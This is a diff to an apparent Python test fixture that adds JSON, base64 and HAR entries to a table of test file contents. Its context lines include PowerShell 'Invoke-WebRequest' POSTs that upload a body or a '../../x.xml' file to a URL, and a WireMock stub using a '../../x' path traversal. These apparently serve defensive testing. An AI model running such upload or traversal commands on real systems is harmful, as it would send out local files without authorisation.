@@ -288,6 +288,11 @@ UNREAD = {
     "unknown.ps1": f"Invoke-WebRequest '{URL}' -Method Post -Body $body".encode(),
     "away.ps1": f"Invoke-WebRequest '{URL}' -Method Post -InFile ../../x.xml".encode(),
     "stub.json": json.dumps(wiremock("") | {"response": {"bodyFileName": "../../x"}}).encode(),
+    "wrapped.json": json.dumps({"request": STOP}).encode(),
+    "base64.json": json.dumps({"request": packed(STOP)}).encode(),
+    "attached.har": har(f"--b\r\nContent-Type: application/xop+xml\r\n\r\n{STOP}\r\n--b--")
+    .replace(b"SOAPAction", b"X-A")
+    .replace(b".svc", b""),
 }
 
 
